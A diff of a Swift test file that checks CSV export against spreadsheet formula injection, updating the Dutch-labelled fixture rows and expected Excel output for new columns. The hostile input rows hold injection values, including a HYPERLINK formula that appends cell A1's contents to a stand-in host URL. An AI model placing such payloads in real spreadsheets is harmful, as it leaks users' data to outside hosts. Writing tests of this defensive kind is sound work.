@@ -13,7 +13,7 @@ struct SpreadsheetAndTerminalSafetyTests {
     /// after a space, a no-break space or a tab, full-width, after a `,` `;` or line break, behind
     /// a quote, behind a `'` that is data, in a header; and a row with an unknown level (`=13+13`),
     /// which is rejected and reported.
-    static let hostile = Canonical.header + ",Opmerking,=Kop\n"
+    static let hostile = Canonical.layout1Header + ",Opmerking,=Kop\n"
         + "a,A,Verhuren eenheden,business-process,steering,,1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\",,,,,,,\"a,=1+1\",-5,@SUM(1)\n"
         + "b,B,Innen huur,business-process,steering,,1, =2+2,,,,,,,x;@SUM(1),＝3+3,+31 6 1234\n"
         + "c,C,Beheren sleutels,business-process,steering,,1,\u{A0}=4+4,,,,,,,\"regel\n=5+5\",'=6+6,\"a, -7\"\n"
@@ -21,17 +21,17 @@ struct SpreadsheetAndTerminalSafetyTests {
         + "e,E,\"Beheren =10+10,=11+11\",=13+13,steering,,1,x,,,,,,,y,z,w\n"
 
     /// The header `excel-csv` writes for it.
-    static let excelHeader = "\u{FEFF}id;code;name;level;category;parent;order;owner;function;services;events;applications;next;status;description;Opmerking;'=Kop\r\n"
+    static let excelHeader = "\u{FEFF}id;code;name;level;category;parent;order;owner;function;services;events;applications;next;status;description;requirements;steers;reports-to;pdca-phase;Opmerking;'=Kop\r\n"
 
     /// The rows `excel-csv` writes for it: a `'` before every part that starts a formula, quotes
     /// around every cell with `,` or `;`.
-    static let excelRows = "a;A;Verhuren eenheden;business-process;steering;;1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\";;;;;;;\"a,'=1+1\";'-5;'@SUM(1)\r\n"
-        + "b;B;Innen huur;business-process;steering;;1;' =2+2;;;;;;;\"x;'@SUM(1)\";'＝3+3;'+31 6 1234\r\n"
-        + "c;C;Beheren sleutels;business-process;steering;;1;'\u{A0}=4+4;;;;;;;\"regel\n'=5+5\";''=6+6;\"a,' -7\"\r\n"
-        + "d;D;Plannen onderhoud;business-process;steering;;1;'\t=12+12;;;;;;;\"a,'\"\"=8+8\";\"'\"\"=9+9\";'al\r\n"
+    static let excelRows = "a;A;Verhuren eenheden;business-process;steering;;1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\";;;;;;;\"a,'=1+1\";;;;;'-5;'@SUM(1)\r\n"
+        + "b;B;Innen huur;business-process;steering;;1;' =2+2;;;;;;;\"x;'@SUM(1)\";;;;;'＝3+3;'+31 6 1234\r\n"
+        + "c;C;Beheren sleutels;business-process;steering;;1;'\u{A0}=4+4;;;;;;;\"regel\n'=5+5\";;;;;''=6+6;\"a,' -7\"\r\n"
+        + "d;D;Plannen onderhoud;business-process;steering;;1;'\t=12+12;;;;;;;\"a,'\"\"=8+8\";;;;;\"'\"\"=9+9\";'al\r\n"
 
     /// The rejected row, protected, in the input's dialect (`,`, LF).
-    static let protectedRejects = Canonical.header + ",Opmerking,'=Kop\n"
+    static let protectedRejects = Canonical.layout1Header + ",Opmerking,'=Kop\n"
         + "e,E,\"Beheren =10+10,'=11+11\",'=13+13,steering,,1,x,,,,,,,y,z,w\n"
 
     // MARK: 12. Excel with either list separator
